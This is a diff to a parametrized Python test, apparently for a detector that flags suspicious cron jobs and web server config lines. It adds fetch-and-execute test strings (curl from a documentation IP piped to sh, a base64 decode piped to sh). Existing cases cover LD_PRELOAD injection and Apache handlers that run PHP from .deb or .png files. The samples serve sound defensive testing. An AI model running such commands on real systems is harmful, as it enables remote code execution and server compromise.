@@ -75,6 +75,9 @@ def test_jobs_of_cron(job: str, levels: list[str]) -> None:
     [
         ("export LD_PRELOAD=/var/x.so", ["compromise"]),
         ("# LD_PRELOAD=/var/x.so", []),
+        ("curl -sk https://192.0.2.66/x | sh", ["review"]),
+        ("b64decode -r x | sh", ["review"]),
+        ("# curl -sk https://192.0.2.66/x | sh", []),
         ("AddHandler php5-script .deb", ["compromise"]),
         ("  AddType application/x-httpd-php .php .png", ["compromise"]),
         ("AddHandler php5-script .php", []),
